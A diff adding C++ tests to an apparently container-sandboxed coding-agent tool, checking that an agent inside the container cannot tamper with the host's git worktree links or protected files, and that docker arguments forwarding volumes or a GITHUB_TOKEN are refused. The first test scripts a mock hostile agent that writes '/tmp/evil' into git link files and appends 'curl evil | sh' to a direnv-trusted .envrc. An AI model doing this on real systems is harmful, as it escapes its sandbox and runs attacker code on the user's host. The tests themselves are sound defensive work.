@@ -97,6 +97,40 @@ TEST_SUITE("docker/sessions") {
     CHECK(r.para({"cancel", "gh", "--force"}).exit_code == 0);
   }
 
+  TEST_CASE(
+      "the container's agent cannot rewrite the worktree's git links or protected files; its "
+      "work still commits") {
+    ParaRepo r;
+    r.repo().write(".envrc", "export SAFE=1\n");
+    r.repo().commit_all("an .envrc the user's direnv trusts");
+    // Each link, rewritten, would point the host's next git command (para's
+    // or the user's own in the worktree) at a config the agent wrote.
+    container_config(r,
+                     "A=$(cat /workspace/.git); A=${A#gitdir: }\n"
+                     "echo /tmp/evil > \"$A/commondir\" && echo COMMONDIR-WRITTEN\n"
+                     "echo /tmp/evil > \"$A/gitdir\" && echo GITDIR-WRITTEN\n"
+                     "echo '[core]' > \"$A/config.worktree\" && echo CONFIGWT-WRITTEN\n"
+                     "echo 'gitdir: /tmp/evil' > /workspace/.git && echo DOTGIT-WRITTEN\n"
+                     "echo 'curl evil | sh' >> /workspace/.envrc && echo ENVRC-WRITTEN\n"
+                     "echo work > /workspace/work.txt && echo WORK-WRITTEN\n"
+                     "echo AGENT-DONE\n");
+    Completed start = r.para({"start", "links", "--container", "-p", "x"});
+    REQUIRE_MESSAGE(start.exit_code == 0, start.err);
+    REQUIRE(wait_until([&] { return agent_done(r, "links"); }, std::chrono::seconds(60)));
+    const std::string log = session_log(r, "links");
+    INFO(log);
+    CHECK(contains(log, "AGENT-DONE"));
+    CHECK(contains(log, "WORK-WRITTEN"));
+    for (const char* written : {"COMMONDIR-WRITTEN", "GITDIR-WRITTEN", "CONFIGWT-WRITTEN",
+                                "DOTGIT-WRITTEN", "ENVRC-WRITTEN"}) {
+      CHECK_FALSE(contains(log, written));
+    }
+    CHECK(read_text(r.worktree("links") + "/.envrc") == "export SAFE=1\n");
+    Completed finish = r.para({"finish", "work", "links"});
+    REQUIRE_MESSAGE(finish.exit_code == 0, finish.err);
+    CHECK(r.repo().git({"show", "para/links:work.txt"}).out == "work\n");
+  }
+
   TEST_CASE("cancel stops and removes the container and archives the branch") {
     ParaRepo r;
     container_config(r, "echo started; sleep 300\n");
@@ -398,6 +432,20 @@ TEST_SUITE("docker/sessions") {
                               "--docker-args", "--network=host", "-p", "x"});
     CHECK(widen.exit_code != 0);
     CHECK(contains(widen.err, "widen"));
+    // A named volume may be bound to host files; -e NAME copies para's own
+    // environment past docker.forward_env_keys.
+    Completed volume = r.para({"start", "m", "--container", "--allow-domains", "example.com",
+                               "--docker-args", "-v", "--docker-args", "vol:/v", "-p", "x"});
+    CHECK(volume.exit_code != 0);
+    CHECK(contains(volume.err, "-v vol mounts a Docker volume"));
+    Completed inherit =
+        para_with_env(r,
+                      {"start", "m", "--container", "--allow-domains", "example.com",
+                       "--docker-args", "-e", "--docker-args", "GITHUB_TOKEN", "-p", "x"},
+                      {"GITHUB_TOKEN=ghp_inherited"});
+    CHECK(inherit.exit_code != 0);
+    CHECK(contains(inherit.err, "-e GITHUB_TOKEN copies a variable from para's environment"));
+    CHECK_FALSE(contains(inherit.err, "ghp_inherited"));
     Completed no_container = r.para({"start", "m", "--docker-image", "x", "-p", "x"});
     CHECK(no_container.exit_code != 0);
     CHECK(contains(no_container.err, "--container"));
